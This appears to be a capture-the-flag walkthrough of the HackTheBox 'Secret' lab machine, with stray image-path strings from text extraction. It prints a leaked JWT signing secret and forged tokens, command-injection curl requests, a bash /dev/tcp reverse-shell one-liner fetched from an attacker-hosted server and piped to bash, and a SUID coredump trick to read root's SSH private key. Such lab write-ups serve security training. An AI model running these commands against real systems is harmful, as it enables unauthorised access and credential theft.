Secret HackTheBox WalkThrough

Secret HackTheBox Banner

This is Secret HackTheBox machine walkthrough. In this writeup I have demonstrated step-by-step how I rooted Secret HTB machine. Before starting let us know something about this machine.

It is a Linux OS box with IP address and difficulty easy assigned by its maker. First of all, connect your PC with HackTheBox VPN and make sure your connectivity with Secret machine by pinging its IP If all goes correct then it is time to start hacking. As usual, I started by scanning the machine. Scanning gives us an idea how we have to proceed further. Like, it helps in banner grabbing various services running over different ports and helps in vulnerability assessment also. I have used $ nmap [ port scanner ] for this task and the result is given below: –


$ sudo nmap -p- --min-rate 10000 -oN nmap-alltcp.nmap
Nmap Scan result 1 during  Secret HackTheBox WalkThrough
$ sudo nmap -p 22,80,3000 -sV -sC -oN nmap-tcpscripts.nmap
Nmap scan result 2 during Secret HackTheBox WalkThrough

Full port scan with $ nmap revealed only 3 ports as open. OpenSSH 8.2p1 is running over port 22, using this port we will access the Secret machine once we will get SSH credential of any user. For now, we don’t haveany SSH credential so we will come to it after finding some credential. Nginx 1.18.0 web server is running over port 80 and Node.js (Express Middleware)is running on port 3000. A quick search for public vulnerabilities and exploits in Nginx 1.18.0 and Node.js does not found any, which means they are completely patched. We require to find some other techniques or attack vector to get into this machine.

On-going to URLs and found the same web page which is a documentation on how to use their Auth APIs to develop your project. It consists of various steps how to implement their Web Services in your project. There is also Source Code of the application available.

Home page of secret HTB

Before digging deeper into the enumeration part, let us download and unzip the code and see what useful information we can get from them.

Downloading & Unzipping Source Code

Once I downloaded and unzipped the source code I found a .git folder inside it. If you don’tknow about .git folder then you can check it from here.

.git folder contains all the information that is necessary for your project in version control and all the information about commits, remote repository address, etc. All of them are present in this folder. It also contains a log that stores your commit history so that you can roll back to history.

Once I got this folder then tried to check its commit log because they may contain some useful and secret information as the name of the machine is Secret. After digging further in to the commit logs found a TOKEN_SECRET.

$ wget
$ unzip -q
$ cd local-web/
$ git log -p -3
Downloading Source Code from Secret machine during its walkthrough
Checking the commit log in .git folder during Secret HackTheBox WalkThrough

Didn’t know where to use this token till now. After spending some time at URL found that there are some end points using which we can register new user. And after registration when we try tologin back it gives us a JWT Token. Once I got the name JWT Token I could relate our TOKEN_SECRET with it. Now we have a lot to play with. We can sign the JWT Token with TOKEN_SECRET after making some changes into it. So first of all, let us register a new user and then login back to get a token from the server.

I just followed all the steps given in the documentation section at URL I have used Postman [ an API platform or simply software for building and using APIs ] for this. You can also use $ curl command for registering new user and doing all the further steps.

Registering New User

Registering new user

Login into Registered User

Login back to the registered user

We have got a JWT Token let us use this token to check our privilegeChecking the privilege of registered user during Secret HackTheBox WalkThrough

Currently we are logged in as normal user deepak. Let us know more about the JWT Token which we have got after logging. I am using JWT_Tool for this. We can perform various attacks like Abusing None Algorithm, Signature Stripping & Key Confusion Attack on JWT Token using this tool. You can know more about it from here.

$ jwt_tool eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJfaWQiOiI2MWMwYjYzYTZmYzQ2YTA5YjY5YjcyYzUiLCJuYW1lIjoiZGVlcGFrIiwiZW1haWwiOiJkZWVwYWtAZGFzaXRoLndvcmtzIiwiaWF0IjoxNjQwMDE5NjU2fQ.OICARFA-CSicVBfulgaL8XY_2OWUzybJJm06z9_ucPY
Analyzing the JWT token issued by the Secret Box

We can perform above mentioned attack on this JWT Token to elevate our privilege to admin role. private.js file inside local-web/routes/ directory revealed that if name inside the token payload will be theadmin then the user is assigned admin privilege.$ nano local-web/routes/private.js
Private.js file in Secret HTB

Forging JWT Token with Known Secret

Since we already have TOKEN_SECRET we can use this key to sign our JWT Token after modifying the name part in payload section and for this we will use hs256 algorithm. Let us use jwt_tool for this job. Here this tool will first of all replace deepakwith theadmin in payload section and then it will sign this Token using hs256 algorithm using our TOKEN_SECRET then generate a new forged JWT_Token.

$ sudo jwt_tool -S hs256 -I -pc 'name' -pv 'theadmin' -p 'gXr67TtoQL8TShUc8XYsK2HvsBYfyQSFCFZe4MQp7gRpFuMkKjcM72CNQN4fMfbZEKx4i7YiWuNAkmuTcdEriCMm9vPAYkhpwPTiuVwVhvwE' eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJfaWQiOiI2MWMwYjYzYTZmYzQ2YTA5YjY5YjcyYzUiLCJuYW1lIjoiZGVlcGFrIiwiZW1haWwiOiJkZWVwYWtAZGFzaXRoLndvcmtzIiwiaWF0IjoxNjQwMDE5NjU2fQ.OICARFA-CSicVBfulgaL8XY_2OWUzybJJm06z9_ucPY
Forging jwt token using JWT_TOOL during Secret HackTheBox WalkThrough

We have got a new token. Let us use this token to check our privilege using Postman.

Rechecking the permission in JWT_Token after forging

We have admin privilege now. Now the work of JWT Token abuse is over. We have to find some other attack vector using which we can get in to the Secret machine. After further analyzing private.js file we found that there can be a Command Injection vulnerability because there is an exec() function which is accepting a file and then execute it. The issue here arises because the file parameter is not validating the input before it passes to exec() function. The attacker can execute OS command here using some concatenating characters like &, |, ;, etc. For more info about OS Command Injection check this article from Acunetix.

$ nano local-web/routes/private.js
Private.js file during Secret HackTheBox WalkThrough

Confirming OS Command Injection

Let us confirm OScommand injection using $ curl command.

$ curl -H "auth-token:eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJfaWQiOiI2MWMwYjYzYTZmYzQ2YTA5YjY5YjcyYzUiLCJuYW1lIjoidGhlYWRtaW4iLCJlbWFpbCI6ImRlZXBha0BkYXNpdGgud29ya3MiLCJpYXQiOjE2NDAwMTk2NTZ9.rVPcnMcCguZj7t_huk9PoX7EuuYYWvN03R_lO5IdWjY" ";id"
Verifying OS Command Injection Secret HackTheBox machine

We found userid of user dasith in the output. From this we can confirm OS Command Injection vulnerability. Let us get user shell. There are multiple ways to get shell. You can use some one liner reverse shell code or you can download your file containing shell code on the remote machine then pipe it to bash. I am going to download my reverse shell code on Secret machine.

Note: You can follow either method and check which method works for you.

Getting User Shell

To get reverse shell.

  1. First of all, create a file with one liner reverse shell code, in First Terminal.
  2. Host this file using python http server.
  3. Start Netcat listener, in Second Terminal.
  4. At last Download & execute the file on Secret machine using OS Command Injection Vulnerability.

First Terminal

$ cat


bash -i >& /dev/tcp/ 0>&1

$ python3 -m http.server 8001Second Terminal

$ nc -nvlp 9001
$ whoami && id

Third Terminal

$ curl -H "auth-token: eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJfaWQiOiI2MWMwYjYzYTZmYzQ2YTA5YjY5YjcyYzUiLCJuYW1lIjoidGhlYWRtaW4iLCJlbWFpbCI6ImRlZXBha0BkYXNpdGgud29ya3MiLCJpYXQiOjE2NDAwMTk2NTZ9.rVPcnMcCguZj7t_huk9PoX7EuuYYWvN03R_lO5IdWjY" ";curl+|bash"
Getting user shell during Secret HackTheBox WalkThrough

We have got a shell with user dasith privilege. Let us upgrade it to fully qualified Linux shell so that we can run more advanced Linux command through it.

Upgrading Shell

$ python3 -c 'import pty;pty.spawn("/bin/bash")'
$ ^Z # CTRL + Z
$ stty raw -echo
$ fg # plus 2 timesenter
$ export TERM=xterm
Upgrading shell in Secret HTB

We have upgraded our shell. Now capture user flag.

Capturing User Flag

$ cat  ~/user.txt
Capturing user flag in Secret HTBPrivilege Escalation

To escalate the privilege to root we have to first find a privilege escalation vector using which we can perform privilege escalation. We can find PrivEsc vector either manually or using some post exploitation enumeration scripts like, and there are a lot more.

Finding PrivEsc Vector

Ran, which is a python script for enumerating all the SUID binaries of the machine. You can get the script from here.Simply download the script from your host machine to secret machine and pipe it to python2/python3. It will get executed while it is in memory.

$ curl | python3
$ python3 -m http.server 9001 result 1 on Secret HackTheBox during its walkthroughfound a custom SUID binary count present inside /opt/ directory.

SUID binaries are those executables which are owned by someone else but when executed by another user they are executed by the permission of its owner. result 2 on Secret HackTheBox during its walkthrough

On checking the permission of count we found that it has only executable permission given by the root user to normal user [here, dasith]. If this file would have writeable permission for other user, then we could put our reverse shell code inside this file and when it gets executed, we would get reverse shell with root user. But, currently user dasith doesn’t have any write permission.

Permission of count SUID Binary

Analyzing Code.c File

There is also a code.c file which appears to be the source code of count binary. After executing count alone and checking the code.c file it appears that both the files are same.

$ vi /opt/code.c
Code.c content

code.c file contains a function prctl(PR_SET_DUMPABLE, 1) which creates a coredump when this file [count] is forcefully stopped in middle of its execution. Since this file is executed by the permission of root user so during its execution, we can request some high privilege file like id_rsa key of root user or root.txt file. Once it try to deny their access [due to setuid(getuid()) function] we can create a coredump by forcefully killing this process. And in our coredump we will get the content of therequired file, i.e., id_rsa key of root user.

When I tried to create a coredump of id_rsa key of root user I could easily dump it. So here our potential privilege escalation vector is Privilege Escalation by exploiting SUID Binary through Coredump.

To create a coredump get anothershell by command injection, because we will require two separate shells for this. Execute the count binary in Shell 1 and enter the path of id_rsa [SSH Private Key] of root user viz. /root/.ssh/id_rsa and do nothing. Now in Shell 2 simply kill the count process. We will get Bus error (core dumped) message in Shell 1.

Shell 1

$ ./count
Enter source file/directory name: /root/.ssh/id_rsa

Shell 2

$ ps -aux | grep count
$ kill -BUS 4131
Performing coredump on Secret HTBDumping SSH Private Key

Now run the following commands to access the private key of root user, in any shell. Simply copy the id_rsa key as highlighted in the screenshot and save in a file named id_rsa.

$ ls /var/crash/
$ mkdir /tmp/Dump
$ apport-unpack /var/crash/_opt_count.1000.crash /tmp/Dump/
$ ls /tmp/Dump/
$ strings /tmp/Dump/CoreDump
Extracting and collecting Coredump file
